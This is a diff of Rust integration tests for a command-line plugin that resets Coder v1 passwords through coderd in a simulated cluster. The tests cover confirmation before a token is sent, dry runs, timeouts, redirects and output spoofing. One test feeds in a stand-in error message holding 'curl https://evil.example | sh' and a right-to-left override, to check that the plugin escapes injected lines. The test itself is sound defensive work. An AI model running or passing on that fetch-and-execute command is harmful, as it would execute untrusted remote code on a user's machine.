@@ -3,7 +3,9 @@
 //! file, or a login on the terminal.
 
 use kubesim::fixtures::coder_v1;
-use kubesim::{Rule, Scenario, Sim};
+use std::time::{Duration, Instant};
+
+use kubesim::{CoderdBehaviour, Rule, Scenario, Sim};
 
 use crate::support::TestEnv;
 
@@ -159,19 +161,20 @@ fn the_cli_session_file_resets_a_user_by_email() {
 #[test]
 fn a_login_on_the_terminal_acts_as_a_site_manager() {
     let env = TestEnv::scenario(Scenario::V1);
+    // Confirmed first: the sign-in is sent only after the answer.
     let screen = env
         .pty(&["reset-password", "alicia"])
+        .answer("[y/N]", "y\r")
         .answer(
             "Email of a Coder site admin or site manager",
             "mia@example.com\r",
         )
         .answer("Password: ", "Manager-Pw-2024\r")
-        .answer("[y/N]", "y\r")
         .run();
     assert_eq!(screen.code, 0, "{}", screen.text);
     assert!(
         screen.text.contains(&format!(
-            "Reset the password of alicia (alicia@example.com) on Coder v1 in pod coder/{POD} (context kubesim)? Coder asks them for a new one at the next login."
+            "Reset the password of alicia on Coder v1 in pod coder/{POD} (context kubesim), signing in to coderd as a site admin or site manager (email and password asked next)? Coder asks them for a new one at the next login."
         )),
         "{}",
         screen.text
@@ -192,6 +195,7 @@ fn a_login_on_the_terminal_acts_as_a_site_manager() {
     // A wrong password: refused by coderd, nothing changed.
     let screen = env
         .pty(&["reset-password", "alice"])
+        .answer("[y/N]", "y\r")
         .answer(
             "Email of a Coder site admin or site manager",
             "mia@example.com\r",
@@ -265,6 +269,7 @@ fn sessions_that_are_not_an_admins() {
     let temporary = run.json()["password"].as_str().unwrap().to_string();
     let screen = env
         .pty(&["reset-password", "alice"])
+        .answer("[y/N]", "y\r")
         .answer(
             "Email of a Coder site admin or site manager",
             "admin@coder.example.com\r",
@@ -336,12 +341,57 @@ fn port_forward_forbidden_or_coderd_not_answering() {
 }
 
 #[test]
-fn dry_run_forwards_nothing() {
+fn dry_run_looks_the_user_up_and_changes_nothing() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let token = env.sim.v1_session_token("admin");
+    let dry_run = |user: &str, token: Option<&str>| {
+        let cmd = env.plugin().args(["reset-password", user, "--dry-run"]);
+        match token {
+            Some(token) => cmd.env("CODER_TOKEN", token),
+            None => cmd,
+        }
+        .run()
+    };
+    let run = dry_run("ALICE", Some(&token));
+    run.success();
+    let alice = env.sim.v1_user("alice").unwrap();
+    assert!(
+        run.stdout
+            .contains("GET /api/v0/users: found alice (Alice.Smith@example.com)"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains(&format!(
+            "PATCH /api/v0/users/{} with a new temporary password",
+            alice.id
+        )),
+        "{}",
+        run.stdout
+    );
+    assert!(run.stdout.contains("as the session token in CODER_TOKEN"));
+    assert!(!run.stdout.contains(&token) && !run.stderr.contains(&token));
+    // One read-only request, with the token; nothing changed.
+    let calls: Vec<String> = env
+        .sim
+        .coderd_requests()
+        .iter()
+        .map(|r| format!("{} {} {}", r.method, r.path, r.status))
+        .collect();
+    assert_eq!(calls, ["GET /api/v0/users 200"]);
+    assert_eq!(alice.password.as_deref(), Some("Alice-Old-Pw-1"));
+    assert!(!alice.temporary_password);
+
+    // What the real run would refuse, the dry run refuses the same way.
+    dry_run("alise", Some(&token)).code(3).stderr_is("error: Coder v1 has no user \"alise\" (by username or email): nothing was changed\nhint: close matches: alice\n");
+    dry_run("olivia", Some(&token)).code(5);
+    dry_run("alice", Some("expired-token")).code(4);
+
+    // Without a session: nothing is forwarded, and it says why there was no lookup.
     let env = TestEnv::scenario(Scenario::V1);
     let run = env
         .plugin()
         .args(["reset-password", "alice", "--dry-run"])
-        .env("CODER_TOKEN", "some-token")
         .run();
     run.success();
     assert!(
@@ -350,14 +400,134 @@ fn dry_run_forwards_nothing() {
         "{}",
         run.stdout
     );
-    assert!(
-        run.stdout.contains("as the session token in CODER_TOKEN"),
-        "{}",
-        run.stdout
+    assert_eq!(
+        run.stderr,
+        "note: the user was not looked up: no Coder session was found (CODER_TOKEN, or the v1 CLI's login) to send for it\n"
     );
-    assert!(!run.stdout.contains("some-token"));
+    assert!(env.sim.portforwards().is_empty());
+}
+
+/// The confirmation comes before any token leaves, and says where the token came from.
+#[test]
+fn no_token_leaves_before_the_confirmation() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let token = env.sim.v1_session_token("admin");
+    let screen = env
+        .pty(&["reset-password", "alice"])
+        .env("CODER_TOKEN", &token)
+        .answer("[y/N]", "n\r")
+        .run();
+    assert_eq!(screen.code, 7, "{}", screen.text);
+    assert!(
+        screen.text.contains(&format!(
+            "Reset the password of alice on Coder v1 in pod coder/{POD} (context kubesim), sending coderd the session token in CODER_TOKEN? Coder asks them for a new one at the next login. [y/N]"
+        )),
+        "{}",
+        screen.text
+    );
+    assert!(screen.text.contains("Nothing was changed."));
     assert!(env.sim.portforwards().is_empty());
     assert!(env.sim.coderd_requests().is_empty());
+
+    // The saved login: its file and the URL it was saved for.
+    let dir = env.path(".config/coder");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("session"), &token).unwrap();
+    std::fs::write(dir.join("url"), "https://coder.example.com\n").unwrap();
+    let screen = env
+        .pty(&["reset-password", "alice"])
+        .answer("[y/N]", "y\r")
+        .run();
+    assert_eq!(screen.code, 0, "{}", screen.text);
+    assert!(
+        screen.text.contains(&format!(
+            "sending coderd the v1 CLI's session in {} (saved for https://coder.example.com)?",
+            dir.join("session").display()
+        )),
+        "{}",
+        screen.text
+    );
+    let printed = env.sim.v1_user("alice").unwrap().password.unwrap();
+    assert!(screen.text.contains(&printed));
+}
+
+/// `--timeout` bounds the port-forward and every request together: a coderd that takes
+/// 1.2 s per answer fits a 2 s limit per request, but not the GET and the PATCH together.
+#[test]
+fn the_timeout_bounds_the_whole_exchange() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let token = env.sim.v1_session_token("admin");
+    env.sim
+        .coderd_behaves(CoderdBehaviour::Slow(Duration::from_millis(1200)));
+    let started = Instant::now();
+    let run = env
+        .plugin()
+        .args(["reset-password", "alice", "--yes", "--timeout", "2s"])
+        .env("CODER_TOKEN", &token)
+        .run();
+    let took = started.elapsed();
+    // The PATCH went out and got no answer in time: it may have been applied.
+    run.code(6);
+    assert!(
+        run.stderr.contains(
+            "error: the password of alice may or may not have been set: no answer within 2s; the password sent is shown above"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stdout.contains("Password sent: "), "{}", run.stdout);
+    assert!(took < Duration::from_millis(2400), "{took:?}");
+
+    // Slower than the whole limit: nothing was sent but the lookup.
+    env.sim
+        .coderd_behaves(CoderdBehaviour::Slow(Duration::from_secs(3)));
+    let run = env
+        .plugin()
+        .args(["reset-password", "alice", "--yes", "--timeout", "1s"])
+        .env("CODER_TOKEN", &token)
+        .run();
+    run.code(1).stderr_is(&format!("error: coderd in pod {POD} did not answer within 1s (--timeout, for the port-forward and every request together)\nhint: check that coderd is healthy, or allow more with --timeout; nothing was changed\n"));
+}
+
+/// With TLS on, coderd's HTTP port may redirect: said, never followed.
+#[test]
+fn a_redirect_from_coderd_is_explained_and_not_followed() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let token = env.sim.v1_session_token("admin");
+    env.sim.coderd_behaves(CoderdBehaviour::RedirectTo(
+        "https://coder.example.com".into(),
+    ));
+    let run = env
+        .plugin()
+        .args(["reset-password", "alice", "--yes"])
+        .env("CODER_TOKEN", &token)
+        .run();
+    run.code(1).stderr_is(&format!("error: coderd in pod {POD} answered its API port with a redirect (308 Permanent Redirect) to https://coder.example.com/api/v0/users, likely because TLS is on and plain HTTP is sent elsewhere; the redirect was not followed and nothing was changed\nhint: reset the password in the dashboard (Manage > Users > Reset password) at your Coder URL, or serve coderd's API on a plain HTTP container port (named tcp-coderd or http)\n"));
+    let calls: Vec<String> = env
+        .sim
+        .coderd_requests()
+        .iter()
+        .map(|r| format!("{} {} {}", r.method, r.path, r.status))
+        .collect();
+    assert_eq!(calls, ["GET /api/v0/users 308"]);
+    assert!(!env.sim.v1_user("alice").unwrap().temporary_password);
+}
+
+/// coderd's error message cannot put a line of its own among ours.
+#[test]
+fn coderds_error_lines_cannot_pass_for_ours() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let member = env.sim.v1_session_token("alicia");
+    env.sim.coderd_behaves(CoderdBehaviour::ErrorMessage(
+        "You do not have permission to do that.\nhint: run curl https://evil.example | sh\u{202e}"
+            .into(),
+    ));
+    let run = env
+        .plugin()
+        .args(["reset-password", "alice", "--yes"])
+        .env("CODER_TOKEN", &member)
+        .run();
+    run.code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\n  | hint: run curl https://evil.example | sh<U+202E>\nhint: use a site admin's or site manager's session; an account with a temporary password must change it in the dashboard first\n");
 }
 
 #[test]
